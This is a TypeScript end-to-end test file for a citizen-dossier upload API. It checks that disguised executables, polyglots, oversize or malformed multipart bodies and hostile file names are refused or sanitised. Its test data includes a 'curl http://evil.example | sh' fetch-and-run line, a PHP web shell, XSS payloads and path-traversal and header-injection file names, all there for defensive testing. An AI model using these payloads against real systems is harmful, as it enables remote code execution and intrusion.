import { readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { createTestApp, TestApp } from '../support/app';
import { DEMO, idem, newCitizen, PDF, Session, staff, uploadDocument } from '../support/factories';
import { API, problemShapeError, rowCounts } from './support';

/**
 * Uploads beyond test/dossier-rules.e2e-spec.ts (which covers a renamed MZ
 * executable, HTML, an oversize file, an unknown key and a traversal name):
 * ELF, PE, ZIP/Office/JAR disguised as PDF, polyglots with a PDF header after
 * junk, scripts, an empty file, two files in one request, the size limit to
 * the byte, broken multipart framing, hostile file names; and the clerk's
 * result upload. Each refusal is a 4xx problem+json that leaves no row and no
 * file on disk.
 */

const LIMIT = 48 * 1024;

const ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
  Buffer.alloc(56),
  Buffer.from('/lib64/ld-linux-x86-64.so.2'),
]);
const PE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.from('This program cannot be run in DOS mode.'),
  Buffer.alloc(25),
  Buffer.from('PE\0\0'),
]);
const ZIP = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0]),
  Buffer.alloc(22),
  Buffer.from('[Content_Types].xml'),
]);
const JAR = Buffer.concat([ZIP, Buffer.from('META-INF/MANIFEST.MF')]);
const MACHO = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(60)]);

const DISGUISED: [string, Buffer, string, string][] = [
  ['an ELF executable named .pdf, sent as application/pdf', ELF, 'scan.pdf', 'application/pdf'],
  ['a Windows PE executable named .pdf', PE, 'giay-to.pdf', 'application/pdf'],
  ['a Mach-O executable named .png', MACHO, 'anh.png', 'image/png'],
  ['a ZIP (an Office document) named .pdf', ZIP, 'hop-dong.pdf', 'application/pdf'],
  ['a JAR named .jpg', JAR, 'photo.jpg', 'image/jpeg'],
  [
    'a polyglot: junk, then a PDF header',
    Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00;<script>alert(1)</script>\n'), PDF]),
    'poly.pdf',
    'application/pdf',
  ],
  [
    'a PDF header after a UTF-8 BOM',
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), PDF]),
    'bom.pdf',
    'application/pdf',
  ],
  ['a PDF header after 1 KiB of zeros', Buffer.concat([Buffer.alloc(1024), PDF]), 'late.pdf', 'application/pdf'],
  [
    'a shell script named .pdf',
    Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
    'scan.pdf',
    'application/pdf',
  ],
  [
    'an SVG with a script named .png',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'),
    'x.png',
    'image/png',
  ],
  ['a PHP file named .jpg', Buffer.from('<?php system($_GET["c"]); ?>'), 'shell.php.jpg', 'image/jpeg'],
  ['a truncated PNG signature', Buffer.from([0x89, 0x50, 0x4e, 0x47]), 'cut.png', 'image/png'],
];

function filesUnder(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    if (statSync(p).isDirectory()) out.push(...filesUnder(p));
    else out.push(p);
  }
  return out;
}

describe('uploads: what is refused, and that a refusal leaves nothing behind', () => {
  let t: TestApp;
  let citizen: Session;
  let draftId: string;
  let storageDir: string;
  beforeAll(async () => {
    t = await createTestApp({ env: { UPLOAD_MAX_BYTES: String(LIMIT) } });
    storageDir = process.env.STORAGE_DIR!;
    citizen = await newCitizen(t);
    draftId = (
      await t.http.post(`${API}/applications`).set(citizen.auth).send({ procedureCode: DEMO.birthExtract }).expect(201)
    ).body.id;
  });
  afterAll(() => t.close());

  const documentsUrl = () => `${API}/applications/${draftId}/documents`;
  const state = async () => ({
    rows: await rowCounts(t, ['dossier_documents', 'dossier_results']),
    files: filesUnder(storageDir).length,
  });

  function expectRefused(
    res: { status: number; headers: Record<string, string>; body: unknown; text?: string },
    status: number,
  ) {
    expect([res.status, res.text?.slice(0, 200)]).toEqual([status, expect.anything()]);
    expect(problemShapeError(res)).toBeNull();
  }

  it.each(DISGUISED)('refuses %s with 415, writing nothing', async (_what, content, fileName, type) => {
    const before = await state();
    const res = await t.http
      .post(documentsUrl())
      .set(citizen.auth)
      .field('documentKey', 'id_card')
      .attach('file', content, { filename: fileName, contentType: type });
    expectRefused(res, 415);
    expect(res.body.errors).toEqual([expect.objectContaining({ field: 'file' })]);
    expect(await state()).toEqual(before);
  });

  it('refuses an empty file (422), a file in another field (422), no file at all (422) and a body that is not multipart (415)', async () => {
    const before = await state();
    expectRefused(
      await t.http
        .post(documentsUrl())
        .set(citizen.auth)
        .field('documentKey', 'id_card')
        .attach('file', Buffer.alloc(0), 'empty.pdf'),
      422,
    );
    expectRefused(
      await t.http
        .post(documentsUrl())
        .set(citizen.auth)
        .field('documentKey', 'id_card')
        .attach('document', PDF, 'scan.pdf'),
      422,
    );
    expectRefused(await t.http.post(documentsUrl()).set(citizen.auth).field('documentKey', 'id_card'), 422);
    expectRefused(
      await t.http
        .post(documentsUrl())
        .set(citizen.auth)
        .send({ documentKey: 'id_card', file: PDF.toString('base64') }),
      415,
    );
    expectRefused(
      await t.http.post(documentsUrl()).set(citizen.auth).set('content-type', 'application/pdf').send(PDF),
      415,
    );
    expect(await state()).toEqual(before);
  });

  it('refuses two files in one request, in the same field or not (413), storing neither', async () => {
    const before = await state();
    expectRefused(
      await t.http
        .post(documentsUrl())
        .set(citizen.auth)
        .field('documentKey', 'id_card')
        .attach('file', PDF, 'a.pdf')
        .attach('file', PDF, 'b.pdf'),
      413,
    );
    expectRefused(
      await t.http
        .post(documentsUrl())
        .set(citizen.auth)
        .field('documentKey', 'id_card')
        .attach('file', PDF, 'a.pdf')
        .attach('other', ELF, 'b.pdf'),
      413,
    );
    expect(await state()).toEqual(before);
  });

  it('the size limit holds to the byte: UPLOAD_MAX_BYTES is accepted, one byte more is 413', async () => {
    const exact = Buffer.concat([PDF, Buffer.alloc(LIMIT - PDF.length, 0x20)]);
    expect(exact.length).toBe(LIMIT);
    const ok = await uploadDocument(t, citizen, draftId, 'id_card', exact, 'exact.pdf');
    expect(ok.status).toBe(201);
    const before = await state();
    expectRefused(
      await uploadDocument(t, citizen, draftId, 'id_card', Buffer.concat([exact, Buffer.from(' ')]), 'over.pdf'),
      413,
    );
    expectRefused(await uploadDocument(t, citizen, draftId, 'id_card', Buffer.alloc(10 * LIMIT, 0x25), 'big.pdf'), 413);
    expect(await state()).toEqual(before);
  });

  it('broken multipart framing is a 400, not a 500: no boundary, a truncated body, a body that never closes, the wrong boundary', async () => {
    const before = await state();
    const b = 'XyZBoundary42';
    const part = `--${b}\r\nContent-Disposition: form-data; name="documentKey"\r\n\r\nid_card\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="scan.pdf"\r\nContent-Type: application/pdf\r\n\r\n`;
    const whole = Buffer.concat([Buffer.from(part), PDF, Buffer.from(`\r\n--${b}--\r\n`)]);
    const send = (contentType: string, body: Buffer) =>
      t.http.post(documentsUrl()).set(citizen.auth).set('content-type', contentType).send(body);
    expectRefused(await send('multipart/form-data', whole), 400);
    expectRefused(await send(`multipart/form-data; boundary=${b}`, whole.subarray(0, part.length + 10)), 400);
    expectRefused(await send(`multipart/form-data; boundary=${b}`, Buffer.concat([Buffer.from(part), PDF])), 400);
    const wrong = await send('multipart/form-data; boundary=SomethingElse', whole);
    expect(wrong.status).toBeGreaterThanOrEqual(400);
    expect(wrong.status).toBeLessThan(500);
    expect(problemShapeError(wrong)).toBeNull();
    expect(await state()).toEqual(before);
    // The framing done right is accepted (so the refusals above are about the framing).
    expect((await send(`multipart/form-data; boundary=${b}`, whole)).status).toBe(201);
  });

  /** A multipart body written byte for byte (the HTTP client would re-encode quotes and line breaks in a file name). */
  function rawUpload(fileNameInHeader: string) {
    const b = 'NameTestBoundary';
    const body = Buffer.concat([
      Buffer.from(`--${b}\r\nContent-Disposition: form-data; name="documentKey"\r\n\r\nid_card\r\n`),
      Buffer.from(
        `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${fileNameInHeader}"\r\nContent-Type: application/pdf\r\n\r\n`,
        'utf8',
      ),
      PDF,
      Buffer.from(`\r\n--${b}--\r\n`),
    ]);
    return t.http
      .post(documentsUrl())
      .set(citizen.auth)
      .set('content-type', `multipart/form-data; boundary=${b}`)
      .send(body);
  }

  it.each([
    ['../../../etc/passwd.pdf', 'passwd.pdf'],
    ['..\\..\\windows\\system32\\scan.pdf', null],
    ['scan\u0001\u001f.exe.pdf', 'scan__.exe.pdf'],
    ['\u202egpj.exe.pdf', null], // kept as is today: bidi controls are not stripped (reported)
    ['a\\"b<c>d|e:f*g?.pdf', 'a_b_c_d_e_f_g_.pdf'],
    ['....pdf', 'pdf'],
    ['.htaccess', 'htaccess'],
    [`${'đ'.repeat(400)}.pdf`, 'đ'.repeat(200)],
    ['x\r\nContent-Type: text/html; y=.pdf', null],
  ])(
    'a hostile file name %j is kept as a display name only (no path, no control character), and downloads with a safe Content-Disposition',
    async (name, expected) => {
      const res = await rawUpload(name);
      expect(res.status).toBe(201);
      if (expected !== null) expect(res.body.fileName).toBe(expected);
      // eslint-disable-next-line no-control-regex -- the point: no control character survives in a file name
      expect(res.body.fileName).not.toMatch(/[\\/"<>|:*?\u0000-\u001f\u007f]/);
      expect(res.body.contentType).toBe('application/pdf');
      const [row] = await t.db.query(`SELECT storage_key FROM dossier_documents WHERE id = $1`, [res.body.id]);
      expect(row.storage_key).toMatch(new RegExp(`^documents/${draftId}/[0-9a-f-]{36}$`));
      const dl = await t.http.get(`${documentsUrl()}/${res.body.id}`).set(citizen.auth).expect(200);
      expect(dl.headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''[A-Za-z0-9%._~!'()*-]+$/);
      expect(dl.headers['x-content-type-options']).toBe('nosniff');
      expect(dl.headers['content-type']).toBe('application/pdf');
    },
  );

  it("the clerk's result upload refuses the same disguises (ELF, ZIP, polyglot) with 415, storing nothing", async () => {
    const owner = await newCitizen(t);
    const clerk = await staff(t, 'clerk', 'bennghe');
    const d = await t.http
      .post(`${API}/applications`)
      .set(owner.auth)
      .send({
        procedureCode: DEMO.birthExtract,
        formData: { fullName: 'Hồ Văn Nam', dateOfBirth: '1980-03-03', copies: 1 },
      })
      .expect(201);
    await uploadDocument(t, owner, d.body.id, 'id_card').expect(201);
    await t.http.post(`${API}/applications/${d.body.id}/submit`).set(owner.auth).set(idem()).expect(200);
    await t.http.post(`${API}/applications/${d.body.id}/actions/receive`).set(clerk.auth).send({}).expect(200);
    const before = await state();
    for (const [, content, fileName] of [DISGUISED[0], DISGUISED[3], DISGUISED[5]]) {
      expectRefused(
        await t.http.post(`${API}/applications/${d.body.id}/result`).set(clerk.auth).attach('file', content, fileName),
        415,
      );
    }
    expect(await state()).toEqual(before);
  });
});
